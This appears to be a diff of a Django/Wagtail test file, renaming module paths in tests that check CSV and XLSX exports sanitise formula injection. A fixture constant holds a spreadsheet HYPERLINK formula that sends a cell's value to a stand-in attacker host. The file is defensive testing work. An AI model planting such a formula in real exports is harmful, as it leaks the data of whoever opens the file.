@@ -3,7 +3,7 @@
 A formula-like employee name (``=HYPERLINK(...)``) comes out as text in the Wagtail admin's
 ``list_export`` (CSV and XLSX), in Wagtail's own reports and in the /sdm/ exports; every admin
 URL whose view exports resolves to a sanitised view; no module writes CSV/XLSX around
-``portal.exports.safe_cell``."""
+``core.exports.safe_cell``."""
 
 from __future__ import annotations
 
@@ -17,7 +17,7 @@ from django.urls import URLPattern, URLResolver, get_resolver, resolve
 from openpyxl import load_workbook
 from wagtail.admin.views.mixins import SpreadsheetExportMixin
 
-from portal import exports
+from core import exports
 
 ROOT = Path(__file__).resolve().parents[2]
 EVIL = '=HYPERLINK("http://jahat.example/?d="&A1,"klik")'
@@ -65,17 +65,17 @@ def _assert_neutral_xlsx(cells: list) -> None:
 
 
 def test_the_reports_use_the_one_sanitiser():
-    from workflow.reports import exports as report_exports
+    from reports import exports as report_exports
 
     assert report_exports.safe_cell is exports.safe_cell
 
 
 WRITERS = re.compile(r"csv\.(writer|DictWriter)\(|\bWorkbook\(|xlsxwriter")
-ALLOWED_WRITERS = {"workflow/reports/exports.py"}
+ALLOWED_WRITERS = {"reports/exports.py"}
 
 
 def test_no_other_module_writes_spreadsheets():
-    """A new CSV/XLSX writer must go through ``portal.exports`` (or be added here after it
+    """A new CSV/XLSX writer must go through ``core.exports`` (or be added here after it
     passes every cell through ``safe_cell``)."""
     found = []
     for app in ("portal", "kompetensi", "workflow", "forum", "scripts"):
@@ -85,7 +85,7 @@ def test_no_other_module_writes_spreadsheets():
                 continue
             if WRITERS.search(path.read_text(encoding="utf-8")):
                 found.append(rel)
-    assert not found, f"CSV/XLSX ditulis di luar portal/exports.py: {found}"
+    assert not found, f"CSV/XLSX ditulis di luar core/exports.py: {found}"
 
 
 # -- every exporting admin URL is sanitised ----------------------------------------------------
@@ -122,7 +122,7 @@ def _exporting_admin_routes() -> list[str]:
 
 
 def test_every_exporting_admin_view_is_sanitised(db):
-    from portal.admin_exports import SafeSpreadsheetExportMixin
+    from core.admin_exports import SafeSpreadsheetExportMixin
 
     routes = _exporting_admin_routes()
     # Our viewsets and Wagtail's reports are all found (the walk itself works).
@@ -146,7 +146,7 @@ def test_wagtail_report_overrides_keep_the_admin_login(db, client):
 def test_safe_export_view_is_idempotent():
     from wagtail.admin.views.generic import IndexView
 
-    from portal.admin_exports import SafeSpreadsheetExportMixin, safe_export_view
+    from core.admin_exports import SafeSpreadsheetExportMixin, safe_export_view
 
     safe = safe_export_view(IndexView)
     assert safe is safe_export_view(IndexView) is safe_export_view(safe)
